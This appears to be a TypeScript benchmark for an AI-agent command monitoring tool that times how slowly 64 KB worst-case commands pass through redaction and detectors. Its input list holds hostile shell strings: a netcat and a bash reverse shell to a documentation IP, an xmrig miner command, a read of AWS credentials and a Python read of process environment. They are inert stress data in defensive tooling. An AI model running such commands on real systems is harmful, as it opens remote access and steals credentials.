/** The dearest 64 KB known through everything that reads a command: redaction, analysis, joining and all detectors. */
import { UNKNOWN_INSTALLATION } from '../../contracts/detector';
import { createAnalyser } from '../../analysis/analyse';
import { createRedactor } from '../../analysis/redact';
import type { AgentEvent } from '../../contracts/event';
import { DETECTORS } from '../../detectors/catalogue';
import { createPartitionEngine } from '../../engine/core/partition';
import { worstShellTexts } from '../support/shell-worst';
import type { Bench, Figure } from './figure';
import { bestMs } from './measure';

const SIZE = 64 * 1024;
const SHOWN = 8;
const GOAL = { atMost: 5 };
/** Texts that make redaction or analysis work hardest, repeated to 64 KB. */
const REPEATED = [
  'password: Decoy9pass1 ',
  '-----BEGIN PRIVATE KEY-----',
  'curl -u ',
  'key="',
  'ghp_',
  'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY ',
  'cat a ',
  'tar c a ',
  'curl -d @f ',
  'a b c ',
  'nc -e sh 203.0.113.9 4444; ',
  './xmrig -o stratum+tcp://pool.example.net:3333 -u decoy; ',
  'cat ~/.aws/credentials; ',
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; ',
];
const REPEATED_CODE = ['f(', 'a=', 'a=b+', '"a"+', 'os.system("a");', 'open("/proc/self/environ").read();'];

/** All dear texts known, with their names. */
export function dearTexts(): (readonly [name: string, text: string])[] {
  const filled = (text: string, size = SIZE) => text.repeat(Math.ceil(size / text.length)).slice(0, size);
  return [
    ...[...worstShellTexts(SIZE)],
    ...REPEATED.map((text) => [JSON.stringify(text), filled(text)] as const),
    ...REPEATED_CODE.map(
      (text) => [`python: ${JSON.stringify(text)}`, `python3 - <<'E'\n${filled(text, SIZE - 30)}\nE`] as const,
    ),
  ];
}

/** One new session a call, the text with another ending each time, so that no cache helps. */
function everything(): (text: string, call: number) => void {
  const redactor = createRedactor(Buffer.alloc(32, 7), 'bench');
  const engine = createPartitionEngine({
    partition: 0,
    detectors: DETECTORS.map((detector) => ({ detector, config: detector.defaults })),
    analyse: createAnalyser(),
    installation: UNKNOWN_INSTALLATION,
    limits: { latenessMs: 10_000, maxSessions: 100, sessionMs: 86_400_000, maxSize: 64 * 1024 * 1024 },
  });
  let made = 0;
  return (text, call) => {
    made += 1;
    engine.event([redactor.redact(execOf(text.slice(0, text.length - call), made))]);
  };
}

/** A command that ran, as the only act of a session. */
export function execOf(command: string, number: number): AgentEvent {
  return {
    id: number.toString(16).padStart(32, '0'),
    at: 1_790_000_000_000 + number,
    receivedAt: 1_790_000_000_000 + number,
    tenant: 'default',
    source: { dialect: 'bench', signal: 'log', record: 'tool' },
    scope: `session:bench:${number}`,
    session: String(number),
    host: 'bench',
    agent: { family: 'bench' },
    identityBasis: 'claimed',
    phase: 'completed',
    action: { type: 'exec', tool: 'Bash', command },
    outcome: { status: 'ok', exitCode: 0 },
  };
}

function measure(): Figure[] {
  const pass = everything();
  const found = dearTexts().map(([note, text]) => ({ note, ms: bestMs((call) => pass(text, call)) }));
  found.sort((a, b) => b.ms - a.ms);
  return found.slice(0, SHOWN).map(({ note, ms }, index): Figure => ({
    what: index === 0 ? `dearest of ${found.length} texts` : '  next',
    value: ms,
    unit: 'ms',
    goal: GOAL,
    note,
  }));
}

export const worstBench: Bench = {
  title: 'any 64 KB command through redaction, analysis and all detectors; best of 12 calls, CPU of one core',
  measure,
};
